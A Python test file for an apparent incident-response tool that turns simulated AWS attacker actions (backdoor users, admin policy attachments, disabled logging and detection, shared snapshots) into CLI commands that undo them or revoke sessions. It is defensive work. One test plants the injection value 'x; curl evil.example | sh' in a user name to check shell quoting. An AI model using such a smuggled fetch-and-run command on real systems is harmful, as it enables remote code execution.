"""Follow-ups: each change the attacker made, with the exact command that undoes or
contains it, and each minted session with its expiry and revocation."""

from __future__ import annotations

import json
import shlex
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from demo.cloudtrail_records import assumed_role, event, iam_user, root, session_credentials
from incident.investigate.followups import (
    REVOKE_POLICY_NAME,
    WRITERS,
    FollowUpKind,
    follow_up_of,
    follow_ups,
    revoke_sessions_policy,
)
from incident.investigate.followups_resources import ip_permissions
from incident.investigate.minted import Minted, minted_by
from incident.investigate.model import CredentialKind, FollowUp
from incident.investigate.record_fields import event_name

ACCOUNT = "123456789012"
OTHER = "111122223333"
WHEN = datetime(2026, 12, 1, 12, 11, 5, tzinfo=UTC)
NOW = datetime(2026, 12, 1, 15, 0, 0, tzinfo=UTC)
LEAKED = "AKIAIOSFODNN7EXAMPLE"
SESSION = "ASIAEXAMPLESESSION01"
ALICE = iam_user("alice", ACCOUNT)
REGION = "eu-west-1"


def call(name: str, source: str, request: dict[str, Any] | None = None,
         response: dict[str, Any] | None = None, **options: Any) -> dict[str, Any]:
    return event(name, source, WHEN, principal=ALICE, key=LEAKED, region=REGION,
                 request=request, response=response, event_id=f"e-{name}", **options)


INGRESS = {"groupId": "sg-0123456789abcdef0", "ipPermissions": {"items": [
    {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "groups": {},
     "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}, "ipv6Ranges": {},
     "prefixListIds": {}}]}}
INGRESS_JSON = '[{"FromPort":22,"IpProtocol":"tcp","IpRanges":[{"CidrIp":"0.0.0.0/0"}],' \
    '"ToPort":22}]'
ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
CUSTOMER_POLICY = f"arn:aws:iam::{ACCOUNT}:policy/app"

CASES = [
    pytest.param(call("CreateUser", "iam", {"userName": "backdoor"}),
                 "user", "backdoor", "aws iam delete-user --user-name backdoor",
                 id="CreateUser"),
    pytest.param(call("CreateAccessKey", "iam", {"userName": "backdoor"},
                      {"accessKey": {"accessKeyId": "AKIAEXAMPLEBACKDOOR1",
                                     "userName": "backdoor", "status": "Active"}}),
                 "access_key", "AKIAEXAMPLEBACKDOOR1",
                 "aws iam update-access-key --user-name backdoor --access-key-id "
                 "AKIAEXAMPLEBACKDOOR1 --status Inactive", id="CreateAccessKey"),
    pytest.param(call("CreateAccessKey", "iam", None,
                      {"accessKey": {"accessKeyId": "AKIAEXAMPLESECOND01"}}),
                 "access_key", "AKIAEXAMPLESECOND01",
                 "aws iam update-access-key --user-name alice --access-key-id "
                 "AKIAEXAMPLESECOND01 --status Inactive", id="CreateAccessKey for self"),
    pytest.param(call("CreateLoginProfile", "iam", {"userName": "backdoor"}),
                 "login_profile", "backdoor",
                 "aws iam delete-login-profile --user-name backdoor", id="CreateLoginProfile"),
    pytest.param(call("UpdateLoginProfile", "iam", {"userName": "admin"}),
                 "login_profile", "admin", "aws iam delete-login-profile --user-name admin",
                 id="UpdateLoginProfile"),
    pytest.param(call("CreateRole", "iam", {"roleName": "backdoor-role"}),
                 "role", "backdoor-role", "aws iam delete-role --role-name backdoor-role",
                 id="CreateRole"),
    pytest.param(call("UpdateAssumeRolePolicy", "iam", {"roleName": "deploy"}),
                 "trust_policy", "deploy", "aws iam get-role --role-name deploy",
                 id="UpdateAssumeRolePolicy"),
    pytest.param(call("AttachUserPolicy", "iam", {"userName": "backdoor", "policyArn": ADMIN}),
                 "policy_attachment", f"user/backdoor: {ADMIN}",
                 f"aws iam detach-user-policy --user-name backdoor --policy-arn {ADMIN}",
                 id="AttachUserPolicy"),
    pytest.param(call("AttachGroupPolicy", "iam", {"groupName": "ops", "policyArn": ADMIN}),
                 "policy_attachment", f"group/ops: {ADMIN}",
                 f"aws iam detach-group-policy --group-name ops --policy-arn {ADMIN}",
                 id="AttachGroupPolicy"),
    pytest.param(call("AttachRolePolicy", "iam", {"roleName": "deploy", "policyArn": ADMIN}),
                 "policy_attachment", f"role/deploy: {ADMIN}",
                 f"aws iam detach-role-policy --role-name deploy --policy-arn {ADMIN}",
                 id="AttachRolePolicy"),
    pytest.param(call("PutUserPolicy", "iam", {"userName": "backdoor", "policyName": "all",
                                               "policyDocument": "{}"}),
                 "inline_policy", "user/backdoor: all",
                 "aws iam delete-user-policy --user-name backdoor --policy-name all",
                 id="PutUserPolicy"),
    pytest.param(call("PutGroupPolicy", "iam", {"groupName": "ops", "policyName": "all"}),
                 "inline_policy", "group/ops: all",
                 "aws iam delete-group-policy --group-name ops --policy-name all",
                 id="PutGroupPolicy"),
    pytest.param(call("PutRolePolicy", "iam", {"roleName": "deploy", "policyName": "all"}),
                 "inline_policy", "role/deploy: all",
                 "aws iam delete-role-policy --role-name deploy --policy-name all",
                 id="PutRolePolicy"),
    pytest.param(call("AddUserToGroup", "iam", {"groupName": "admins", "userName": "backdoor"}),
                 "group_membership", "backdoor in admins",
                 "aws iam remove-user-from-group --group-name admins --user-name backdoor",
                 id="AddUserToGroup"),
    pytest.param(call("CreatePolicyVersion", "iam",
                      {"policyArn": CUSTOMER_POLICY, "setAsDefault": True},
                      {"policyVersion": {"versionId": "v3", "isDefaultVersion": True}}),
                 "policy_version", f"{CUSTOMER_POLICY} v3",
                 f"aws iam delete-policy-version --policy-arn {CUSTOMER_POLICY} "
                 "--version-id v3", id="CreatePolicyVersion"),
    pytest.param(call("SetDefaultPolicyVersion", "iam",
                      {"policyArn": CUSTOMER_POLICY, "versionId": "v1"}),
                 "policy_version", f"{CUSTOMER_POLICY} v1",
                 f"aws iam list-policy-versions --policy-arn {CUSTOMER_POLICY}",
                 id="SetDefaultPolicyVersion"),
    pytest.param(call("PutBucketPolicy", "s3", {"bucketName": "data", "bucketPolicy": {}}),
                 "bucket_policy", "data",
                 f"aws s3api delete-bucket-policy --bucket data --region {REGION}",
                 id="PutBucketPolicy"),
    pytest.param(call("PutBucketAcl", "s3", {"bucketName": "data"}),
                 "bucket_acl", "data",
                 f"aws s3api put-bucket-acl --bucket data --acl private --region {REGION}",
                 id="PutBucketAcl"),
    pytest.param(call("DeletePublicAccessBlock", "s3", {"bucketName": "data"}),
                 "public_access_block", "data",
                 "aws s3api put-public-access-block --bucket data "
                 "--public-access-block-configuration BlockPublicAcls=true,"
                 "IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true "
                 f"--region {REGION}", id="DeletePublicAccessBlock"),
    pytest.param(call("DeletePublicAccessBlock", "s3", {"accountId": ACCOUNT}),
                 "public_access_block", f"account {ACCOUNT}",
                 f"aws s3control put-public-access-block --account-id {ACCOUNT} "
                 "--public-access-block-configuration BlockPublicAcls=true,"
                 "IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true "
                 f"--region {REGION}", id="DeletePublicAccessBlock of the account"),
    pytest.param(call("AuthorizeSecurityGroupIngress", "ec2", INGRESS),
                 "security_group_ingress", "sg-0123456789abcdef0",
                 "aws ec2 revoke-security-group-ingress --group-id sg-0123456789abcdef0 "
                 f"--ip-permissions '{INGRESS_JSON}' --region {REGION}",
                 id="AuthorizeSecurityGroupIngress"),
    pytest.param(call("ModifySnapshotAttribute", "ec2",
                      {"snapshotId": "snap-0123", "attributeType": "CREATE_VOLUME_PERMISSION",
                       "createVolumePermission": {"add": {"items": [{"userId": OTHER}]}}}),
                 "snapshot_permission", "snap-0123",
                 "aws ec2 modify-snapshot-attribute --snapshot-id snap-0123 --attribute "
                 f"createVolumePermission --operation-type remove --user-ids {OTHER} "
                 f"--region {REGION}", id="ModifySnapshotAttribute"),
    pytest.param(call("ModifySnapshotAttribute", "ec2",
                      {"snapshotId": "snap-0123",
                       "createVolumePermission": {"add": {"items": [{"group": "all"}]}}}),
                 "snapshot_permission", "snap-0123",
                 "aws ec2 modify-snapshot-attribute --snapshot-id snap-0123 --attribute "
                 "createVolumePermission --operation-type remove --group-names all "
                 f"--region {REGION}", id="ModifySnapshotAttribute public"),
    pytest.param(call("ModifyImageAttribute", "ec2",
                      {"imageId": "ami-0123", "attributeType": "launchPermission",
                       "launchPermission": {"add": {"items": [{"userId": OTHER},
                                                              {"group": "all"}]}}}),
                 "image_permission", "ami-0123",
                 "aws ec2 modify-image-attribute --image-id ami-0123 --attribute "
                 f"launchPermission --operation-type remove --user-ids {OTHER} "
                 f"--user-groups all --region {REGION}", id="ModifyImageAttribute"),
    pytest.param(call("ModifyDBSnapshotAttribute", "rds",
                      {"dBSnapshotIdentifier": "prod-snap", "attributeName": "restore",
                       "valuesToAdd": [OTHER]}),
                 "db_snapshot_permission", "prod-snap",
                 "aws rds modify-db-snapshot-attribute --db-snapshot-identifier prod-snap "
                 f"--attribute-name restore --values-to-remove {OTHER} --region {REGION}",
                 id="ModifyDBSnapshotAttribute"),
    pytest.param(call("PutAlternateContact", "account",
                      {"alternateContactType": "SECURITY", "emailAddress": "HIDDEN"}),
                 "alternate_contact", "SECURITY",
                 "aws account get-alternate-contact --alternate-contact-type SECURITY",
                 id="PutAlternateContact"),
    pytest.param(call("DeleteAlternateContact", "account",
                      {"alternateContactType": "BILLING"}),
                 "alternate_contact", "BILLING",
                 "aws account get-alternate-contact --alternate-contact-type BILLING",
                 id="DeleteAlternateContact"),
    pytest.param(call("PutContactInformation", "account", {}),
                 "contact_information", "account", "aws account get-contact-information",
                 id="PutContactInformation"),
    pytest.param(call("StopLogging", "cloudtrail", {"name": "management"}),
                 "trail_logging", "management",
                 f"aws cloudtrail start-logging --name management --region {REGION}",
                 id="StopLogging"),
    pytest.param(call("StopLogging", "cloudtrail",
                      {"name": f"arn:aws:cloudtrail:us-east-2:{ACCOUNT}:trail/org"}),
                 "trail_logging", f"arn:aws:cloudtrail:us-east-2:{ACCOUNT}:trail/org",
                 f"aws cloudtrail start-logging --name arn:aws:cloudtrail:us-east-2:"
                 f"{ACCOUNT}:trail/org --region us-east-2", id="StopLogging by arn"),
    pytest.param(call("DeleteTrail", "cloudtrail", {"name": "management"}),
                 "trail", "management", "irready audit", id="DeleteTrail"),
    pytest.param(call("PutEventSelectors", "cloudtrail",
                      {"trailName": "management", "eventSelectors": []}),
                 "event_selectors", "management",
                 "aws cloudtrail put-event-selectors --trail-name management "
                 "--event-selectors '[{\"IncludeManagementEvents\":true,"
                 f"\"ReadWriteType\":\"All\"}}]' --region {REGION}",
                 id="PutEventSelectors"),
    pytest.param(call("DeleteDetector", "guardduty", {"detectorId": "d-1"}),
                 "detector", "d-1", f"aws guardduty create-detector --enable --region {REGION}",
                 id="DeleteDetector"),
    pytest.param(call("UpdateDetector", "guardduty", {"detectorId": "d-1", "enable": False}),
                 "detector", "d-1",
                 f"aws guardduty update-detector --detector-id d-1 --enable --region {REGION}",
                 id="UpdateDetector disabling"),
    pytest.param(call("CreateFunction20150331", "lambda",
                      {"functionName": "exfil", "role": f"arn:aws:iam::{ACCOUNT}:role/admin"}),
                 "lambda_function", "exfil",
                 f"aws lambda delete-function --function-name exfil --region {REGION}",
                 id="CreateFunction"),
    pytest.param(call("UpdateFunctionCode20150331v2", "lambda", {"functionName": "api"}),
                 "lambda_code", "api",
                 f"aws lambda get-function --function-name api --region {REGION}",
                 id="UpdateFunctionCode"),
    pytest.param(call("AddPermission20150331v2", "lambda",
                      {"functionName": "api", "statementId": "backdoor",
                       "principal": "*", "action": "lambda:InvokeFunction"}),
                 "lambda_permission", "api: backdoor",
                 "aws lambda remove-permission --function-name api --statement-id backdoor "
                 f"--region {REGION}", id="AddPermission"),
]


@pytest.mark.parametrize(("record", "kind", "resource", "command"), CASES)
def test_each_change_has_its_undo_command(record: dict[str, Any], kind: str, resource: str,
                                          command: str) -> None:
    follow_up = follow_up_of(record)
    assert follow_up is not None
    assert (follow_up.kind, follow_up.resource, follow_up.command) == (kind, resource, command)
    assert (follow_up.event_id, follow_up.event_time) == (record["eventID"], WHEN)


def test_every_writer_and_every_kind_has_a_case() -> None:
    covered = {event_name(param.values[0]) for param in CASES}
    assert set(WRITERS) <= covered
    kinds = {param.values[1] for param in CASES} | {FollowUpKind.SESSION}
    assert kinds == set(FollowUpKind)


def test_a_create_policy_version_made_default_names_the_previous_version() -> None:
    follow_up = follow_up_of(call("CreatePolicyVersion", "iam",
                                  {"policyArn": CUSTOMER_POLICY, "setAsDefault": True},
                                  {"policyVersion": {"versionId": "v3"}}))
    assert follow_up is not None
    assert (f"aws iam set-default-policy-version --policy-arn {CUSTOMER_POLICY} "
            "--version-id v2") in follow_up.note


def test_the_user_deletion_lists_what_must_go_first() -> None:
    follow_up = follow_up_of(call("CreateUser", "iam", {"userName": "backdoor"}))
    assert follow_up is not None
    assert "list-access-keys" in follow_up.note
    assert "list-attached-user-policies" in follow_up.note


def test_the_ingress_json_is_what_the_cli_reads() -> None:
    parameters = {"groupName": "default", "ipPermissions": {"items": [
        {"ipProtocol": "-1", "groups": {"items": [{"groupId": "sg-1", "userId": OTHER}]},
         "ipv6Ranges": {"items": [{"cidrIpv6": "::/0", "description": "all"}]},
         "prefixListIds": {"items": [{"prefixListId": "pl-1"}]}}]}}
    assert ip_permissions(parameters) == [{
        "IpProtocol": "-1", "UserIdGroupPairs": [{"GroupId": "sg-1", "UserId": OTHER}],
        "Ipv6Ranges": [{"CidrIpv6": "::/0", "Description": "all"}],
        "PrefixListIds": [{"PrefixListId": "pl-1"}]}]
    follow_up = follow_up_of(call("AuthorizeSecurityGroupIngress", "ec2", parameters))
    assert follow_up is not None
    assert follow_up.command.startswith(
        "aws ec2 revoke-security-group-ingress --group-name default --ip-permissions ")


def test_values_from_the_attacker_are_shell_quoted() -> None:
    hostile = "x; curl evil.example | sh"
    follow_up = follow_up_of(call("CreateUser", "iam", {"userName": hostile}))
    assert follow_up is not None
    assert follow_up.command == f"aws iam delete-user --user-name {shlex.quote(hostile)}"
    assert shlex.split(follow_up.command)[-1] == hostile


@pytest.mark.parametrize("record", [
    pytest.param(call("CreateUser", "iam", {"userName": "x"},
                      error=("AccessDenied", "no")), id="a denied call"),
    pytest.param(call("UpdateDetector", "guardduty", {"detectorId": "d-1", "enable": True}),
                 id="a detector enabled"),
    pytest.param(call("CreateUser", "iam", None), id="null requestParameters"),
    pytest.param(call("CreateAccessKey", "iam", {"userName": "x"}, None),
                 id="a key without a response"),
    pytest.param(call("ModifySnapshotAttribute", "ec2",
                      {"snapshotId": "snap-1",
                       "createVolumePermission": {"remove": {"items": [{"userId": OTHER}]}}}),
                 id="a snapshot unshared"),
    pytest.param(call("AuthorizeSecurityGroupIngress", "ec2", {"groupId": "sg-1"}),
                 id="ingress without permissions"),
    pytest.param(call("ListUsers", "iam"), id="a read"),
    pytest.param({**call("CreateUser", "iam", {"userName": "x"}), "eventTime": None},
                 id="no eventTime"),
])
def test_no_follow_up_for_failed_harmless_or_odd_records(record: dict[str, Any]) -> None:
    assert follow_up_of(record) is None


def session(principal_arn: str, expires: datetime | None, event_id: str = "e-s") -> Minted:
    return Minted(SESSION, CredentialKind.SESSION, event_id, WHEN, expires, ACCOUNT,
                  principal_arn)


def policy_document(command: str) -> dict[str, Any]:
    words = shlex.split(command)
    document: dict[str, Any] = json.loads(words[words.index("--policy-document") + 1])
    return document


def test_a_role_session_is_revoked_on_the_role() -> None:
    expires = WHEN + timedelta(hours=12)
    (follow_up,) = follow_ups([], [session(f"arn:aws:sts::{ACCOUNT}:assumed-role/deploy/x",
                                           expires)], NOW)
    assert (follow_up.kind, follow_up.resource, follow_up.event_id) == (
        "session", SESSION, "e-s")
    assert follow_up.command == (
        f"aws iam put-role-policy --role-name deploy --policy-name {REVOKE_POLICY_NAME} "
        f"--policy-document {shlex.quote(revoke_sessions_policy(NOW))}")
    assert policy_document(follow_up.command)["Statement"] == [{
        "Effect": "Deny", "Action": ["*"], "Resource": ["*"],
        "Condition": {"DateLessThan": {"aws:TokenIssueTime": "2026-12-01T15:00:00Z"}}}]
    assert "valid until 2026-12-02T00:11:05Z" in follow_up.note
    assert "deactivating the key does not end it" in follow_up.note


def test_a_user_session_is_revoked_on_the_user() -> None:
    (follow_up,) = follow_ups([], [session(ALICE.arn, WHEN + timedelta(hours=12))], NOW)
    assert follow_up.command.startswith(
        f"aws iam put-user-policy --user-name alice --policy-name {REVOKE_POLICY_NAME} ")


def test_a_federated_session_is_revoked_on_the_user_who_asked_for_it() -> None:
    record = event("GetFederationToken", "sts", WHEN, principal=ALICE, key=LEAKED,
                   response={"credentials": session_credentials(SESSION, WHEN,
                                                                timedelta(hours=36)),
                             "federatedUser": {"arn": f"arn:aws:sts::{ACCOUNT}:"
                                                      "federated-user/mallory"}})
    minted = minted_by(record)
    assert minted is not None
    (follow_up,) = follow_ups([record], [minted], NOW)
    assert follow_up.command.startswith("aws iam put-user-policy --user-name alice ")
    (unknown,) = follow_ups([], [minted], NOW)
    assert unknown.command == ""
    assert "GetFederationToken" in unknown.note


def test_a_session_of_a_role_in_another_account_says_where_to_revoke_it() -> None:
    record = event("AssumeRole", "sts", WHEN, principal=ALICE, key=LEAKED,
                   response={"credentials": session_credentials(SESSION, WHEN,
                                                                timedelta(hours=12)),
                             "assumedRoleUser": {"arn": f"arn:aws:sts::{OTHER}:"
                                                        "assumed-role/cross/x"}})
    minted = minted_by(record)
    assert minted is not None
    (follow_up,) = follow_ups([record], [minted], NOW)
    assert follow_up.command.startswith("aws iam put-role-policy --role-name cross ")
    assert f"run it in account {OTHER}" in follow_up.note


def test_an_expired_session_has_no_command() -> None:
    expired = WHEN + timedelta(hours=1)
    (follow_up,) = follow_ups([], [session(ALICE.arn, expired)], expired + timedelta(hours=1))
    assert (follow_up.command, follow_up.note) == ("", "expired 2026-12-01T13:11:05Z")


def test_a_session_of_unknown_expiry_is_still_revoked() -> None:
    (follow_up,) = follow_ups([], [session(ALICE.arn, None)], NOW)
    assert follow_up.command.startswith("aws iam put-user-policy")
    assert "expiry unknown" in follow_up.note


def test_a_root_session_cannot_be_revoked_by_policy() -> None:
    (follow_up,) = follow_ups([], [session(root(ACCOUNT).arn, NOW + timedelta(hours=1))],
                              NOW)
    assert follow_up.command == ""
    assert "root" in follow_up.note


def test_follow_ups_of_a_story_in_time_order_and_created_keys_once() -> None:
    backdoor_key = "AKIAEXAMPLEBACKDOOR1"
    role_session = assumed_role("deploy", "x", ACCOUNT, WHEN)
    records = [
        event("StopLogging", "cloudtrail", WHEN + timedelta(minutes=9), principal=role_session,
              key=SESSION, request={"name": "management"}, event_id="e-stop"),
        event("CreateUser", "iam", WHEN + timedelta(minutes=1), principal=ALICE, key=LEAKED,
              request={"userName": "backdoor"}, event_id="e-user"),
        event("CreateAccessKey", "iam", WHEN + timedelta(minutes=2), principal=ALICE,
              key=LEAKED, request={"userName": "backdoor"},
              response={"accessKey": {"accessKeyId": backdoor_key, "userName": "backdoor"}},
              event_id="e-key"),
        event("GetSessionToken", "sts", WHEN + timedelta(minutes=3), principal=ALICE,
              key=LEAKED, response={"credentials": session_credentials(
                  "ASIAEXAMPLESESSION02", WHEN, timedelta(hours=12))}, event_id="e-gst"),
        event("ListUsers", "iam", WHEN, principal=ALICE, key=LEAKED),
    ]
    minted = [found for record in records if (found := minted_by(record))]
    assert {item.kind for item in minted} == {CredentialKind.SESSION, CredentialKind.CREATED}
    result = follow_ups(records, minted, NOW)
    assert [(item.kind, item.event_id) for item in result] == [
        ("user", "e-user"), ("access_key", "e-key"), ("session", "e-gst"),
        ("trail_logging", "e-stop")]
    assert all(isinstance(item, FollowUp) for item in result)


@pytest.mark.parametrize(("record", "kind", "resource", "command"), CASES)
def test_every_command_is_one_shell_line_of_a_known_tool(
        record: dict[str, Any], kind: str, resource: str, command: str) -> None:
    words = shlex.split(command)
    assert words[0] in {"aws", "irready"}
    assert "\n" not in command
